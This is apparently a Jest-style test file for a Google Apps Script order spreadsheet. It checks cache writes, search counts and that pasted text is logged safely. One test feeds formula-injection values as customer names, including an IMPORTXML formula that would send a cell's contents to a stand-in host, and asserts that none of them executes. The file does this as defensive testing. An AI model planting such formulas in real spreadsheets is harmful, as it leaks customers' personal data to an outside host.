/**
 * What an edit of 주문 asks of Google, through dist/Code.js: cache writes wait for the lock's
 * release and go out as one putAll per expiry; a paste looks for its new order codes, and for
 * their views in 조회, with one search each; 이력 learns which columns are plain text once and
 * keeps it in the cache under its header. Hostile text stays text all the while.
 */
import type { AppsScriptEmulator } from "../emulator/appsScript";
import { at, col, demoInput, EVENTS, freshSpreadsheet, ORDERS, paste } from "./helpers";
import { tab } from "../../src/templates";

const VIEWS = tab("views").name;
const calls = (emu: AppsScriptEmulator) => emu.executionLog.at(-1)!.calls;

function season(): AppsScriptEmulator {
  const emu = freshSpreadsheet();
  emu.now = at("2026-07-10T09:00:00+09:00");
  paste(emu, demoInput(6));
  emu.fireTimer("reconcile");
  return emu;
}

/** A pasted row whose names carry an invisible character: 이력 logs the name cleaned (이름 정리). */
function hostile(orderer: string, recipient: string, memo: string) {
  return { ...demoInput(1)[0]!, 주문자: `${orderer}\u200b`, 받는분: `${recipient}\u200b`, 메모: memo };
}

describe("an edit's calls", () => {
  it("cache writes made under the lock go out at its release, one putAll per expiry", () => {
    const emu = season();
    emu.now = at("2026-07-10T10:00:00+09:00");
    const unpaid = emu.records(ORDERS).findIndex((r) => r["입금상태"] !== "입금완료") + 2;
    const order = emu.records(ORDERS)[unpaid - 2]!;
    // A customer looked the order up a minute ago: its view is warm.
    emu.run("lookupStatus", [order["주문번호"], String(order["주문자 연락처"]).slice(-4)], "webapp");
    emu.now = at("2026-07-10T10:01:00+09:00");
    emu.edit(ORDERS, unpaid, col(emu, ORDERS, "입금상태"), [["입금완료"]]);
    const c = calls(emu);
    // 설정 and the season's sums (6 hours) in one putAll, the order's warm view (5 minutes) in
    // another; a single put at most (진단's note, written outside the host's cache).
    expect(c["CacheService.putAll"]).toBe(2);
    expect(c["CacheService.put"] ?? 0).toBeLessThanOrEqual(1);
    expect(JSON.parse(emu.cache.get(`peach:view:${order["주문번호"]}`)!).view.paid).toBe(true);
    expect(emu.cache.get("peach:season-sums:v2")).not.toBeNull();
    expect(emu.records(ORDERS)[unpaid - 2]!["진행상태"]).toBe("출하예정");
  });

  it("a paste of five new orders looks for their codes with one search and for their views with one more", () => {
    const emu = season();
    emu.now = at("2026-07-10T10:00:00+09:00");
    const { firstRow } = paste(
      emu,
      demoInput(5).map((r, i) => ({ ...r, 주문자: `새주문자${i}`, "주문자 연락처": `0109100000${i}` })),
    );
    expect(calls(emu)["findAll"]).toBeLessThanOrEqual(3);
    const codes = emu
      .records(ORDERS)
      .slice(firstRow - 2)
      .map((r) => String(r["주문번호"]));
    expect(new Set(codes).size).toBe(5);
    for (const code of codes) expect(code).toMatch(/^\d{3}-\d{3}$/);
    const viewCodes = emu.records(VIEWS).map((r) => String(r["주문번호"]));
    for (const code of codes) expect(viewCodes.filter((c) => c === code)).toHaveLength(1);
    // The next reconcile finds every view as the edit left it.
    emu.now = at("2026-07-10T10:10:00+09:00");
    const before = JSON.stringify(emu.values(VIEWS));
    emu.fireTimer("reconcile");
    expect(JSON.stringify(emu.values(VIEWS))).toBe(before);
  });

  it("이력 asks Sheets for its plain-text columns once; hostile text stays text, a formula never runs", () => {
    const emu = season();
    const events = emu.spreadsheet.tab(EVENTS);
    emu.cache.delete(`peach:text-columns:v1:${events.getSheetId()}`);
    // A pasted phone is logged as typed (01060041094: number-like text) when it is tidied.
    emu.now = at("2026-07-10T10:00:00+09:00");
    paste(emu, [{ ...demoInput(1)[0]!, 주문자: "새주문자1" }]);
    expect(calls(emu)["getNumberFormats"]).toBe(1);
    emu.now = at("2026-07-10T10:01:00+09:00");
    paste(emu, [{ ...demoInput(1)[0]!, 주문자: "새주문자2" }]);
    expect(calls(emu)["getNumberFormats"] ?? 0).toBe(0); // learnt, under the same header

    // One event (boxes changed): one appendRow, no last row asked; its numbers stay text.
    emu.now = at("2026-07-10T10:01:30+09:00");
    const row = emu.records(ORDERS).length + 1;
    const before = String(emu.records(ORDERS).at(-1)!["상자수"]);
    emu.edit(ORDERS, row, col(emu, ORDERS, "상자수"), [[Number(before) + 2]]);
    expect([calls(emu)["appendRow"], calls(emu)["getLastRow"] ?? 0]).toEqual([1, 0]);
    const boxes = emu.values(EVENTS).at(-1)!;
    expect(boxes.slice(4, 7)).toEqual(["상자수", before, String(Number(before) + 2)]);

    // Names with an invisible character are logged cleaned (이름 정리): their text reaches 이력.
    emu.now = at("2026-07-10T10:02:00+09:00");
    paste(emu, [hostile('=IMPORTXML("http://x.example/?a="&A2,"//a")', "0101234", "'06236")]);
    // What the script reads back (one leading apostrophe is Sheets' text mark).
    const logged = () =>
      emu
        .values(EVENTS)
        .flat()
        .map((v) => (typeof v === "string" ? v.replace(/^'/, "") : v));
    expect(logged()).toContain('=IMPORTXML("http://x.example/?a="&A2,"//a")');
    expect(logged()).toContain("0101234"); // its leading zero kept: text, not the number 101234
    expect(logged()).not.toContain(101234);

    // Tony sets 이력's 이후 column to a number format after the cache learnt it was plain text.
    const to = col(emu, EVENTS, "이후");
    events.formats.push({ r1: 2, c1: to, r2: events.maxRows + 1000, c2: to, format: "0" });
    emu.now = at("2026-07-10T10:03:00+09:00");
    paste(emu, [hostile('=HYPERLINK("http://x.example","열기")', "+김철수", "메모")]);
    expect(logged()).toContain('=HYPERLINK("http://x.example","열기")');
    expect(logged()).toContain("+김철수");
    for (const name of [EVENTS, VIEWS, ORDERS])
      expect([name, emu.spreadsheet.tab(name).formulas.size]).toEqual([name, 0]);
    // The memo's own apostrophe is Sheets' text mark: the memo reads back as 06236, as text.
    expect(emu.records(ORDERS).map((r) => r["메모"])).toContain("06236");
    // 조회 holds the views as JSON text: the names are in them, masked, never a formula.
    expect(
      emu
        .values(VIEWS)
        .flat()
        .every((v) => typeof v === "string"),
    ).toBe(true);
  });

  it("an edit of one order finds its 조회 row from the cache, read first; a hint to another order's row is not used", () => {
    const emu = season();
    emu.now = at("2026-07-10T10:00:00+09:00");
    const memo = col(emu, ORDERS, "메모");
    emu.edit(ORDERS, 2, memo, [["문 앞에 두세요"]]);
    expect(calls(emu)["findAll"]).toBe(1); // the order's rows in 주문; 조회's row came from the hint
    // Point the first order's hint at the second order's row (as if 조회 had been rebuilt).
    const [first, second] = emu.records(ORDERS).map((r) => String(r["주문번호"]));
    const rows = emu.records(VIEWS).map((r) => String(r["주문번호"]));
    const otherRow = rows.indexOf(second!) + 2;
    const key = `peach:view-rows:v1:${first!.charCodeAt(first!.length - 1) % 8}`;
    emu.cache.set(key, JSON.stringify({ ...JSON.parse(emu.cache.get(key) ?? "{}"), [first!]: otherRow }));
    const other = JSON.stringify(emu.values(VIEWS)[otherRow - 1]);
    const mine = JSON.stringify(emu.values(VIEWS)[rows.indexOf(first!) + 1]);
    emu.now = at("2026-07-10T10:01:00+09:00");
    emu.edit(ORDERS, 2, col(emu, ORDERS, "입금상태"), [["입금완료"]]);
    expect(calls(emu)["findAll"]).toBe(2); // the hint was read, found wrong, and the row searched
    expect(JSON.stringify(emu.values(VIEWS)[otherRow - 1])).toBe(other);
    const firstRow = rows.indexOf(first!) + 2;
    expect(JSON.parse(emu.cache.get(key)!)[first!]).toBe(firstRow);
    expect(String(emu.values(VIEWS)[firstRow - 1]![0])).toBe(first);
    expect(JSON.stringify(emu.values(VIEWS)[firstRow - 1])).not.toBe(mine); // its view, paid now
  });
});

describe("an execution Google ends before the lock's release", () => {
  const SCHEDULE = tab("schedule").name;
  /** Six orders, one paid: its day has room; then that day is lowered to what it holds. */
  function scene() {
    const emu = freshSpreadsheet();
    emu.now = at("2026-07-10T09:00:00+09:00");
    paste(emu, demoInput(6));
    emu.fireTimer("reconcile");
    const unpaid = emu.records(ORDERS).flatMap((r, i) => (r["입금상태"] !== "입금완료" ? [i + 2] : []));
    emu.edit(ORDERS, unpaid[0]!, col(emu, ORDERS, "입금상태"), [["입금완료"]]);
    const day = emu.records(ORDERS)[unpaid[0]! - 2]!["출하예정일"] as Date;
    const dayRow =
      emu.records(SCHEDULE).findIndex((d) => (d["날짜"] as Date).getTime() === day.getTime()) + 2;
    return { emu, unpaid, day, dayRow };
  }
  const lower = (emu: AppsScriptEmulator, dayRow: number) =>
    emu.edit(SCHEDULE, dayRow, col(emu, SCHEDULE, "출하량(상자)"), [
      [Number(emu.records(SCHEDULE)[dayRow - 2]!["배정"])],
    ]);

  it("leaves no cached 설정 and 출하 일정 older than the sheet: a lowered day is never overbooked", () => {
    const probe = scene();
    lower(probe.emu, probe.dayRow);
    const trips = probe.emu.executionLog.at(-1)!.roundTrips;
    const { emu, unpaid, day, dayRow } = scene();
    const running = () => (emu as unknown as { running: { modelledMs: number }[] }).running;
    // After its last spreadsheet call the run passes 6 minutes: Google ends it, cache writes unsent.
    emu.interleave(trips, () => {
      running().at(-1)!.modelledMs = 360_001;
    });
    try {
      lower(emu, dayRow);
    } catch {
      // the run was ended, as Google would
    }
    emu.triggerRuntime.usedMs = 0; // the day's quota is not what this is about
    const capacity = Number(emu.records(SCHEDULE)[dayRow - 2]!["출하량(상자)"]);
    for (const row of unpaid.slice(1)) emu.edit(ORDERS, row, col(emu, ORDERS, "입금상태"), [["입금완료"]]);
    const held = emu
      .records(ORDERS)
      .filter((r) => (r["출하예정일"] as Date)?.getTime?.() === day.getTime())
      .reduce((n, r) => n + Number(r["상자수"]), 0);
    expect(held).toBeLessThanOrEqual(capacity);
  });
});
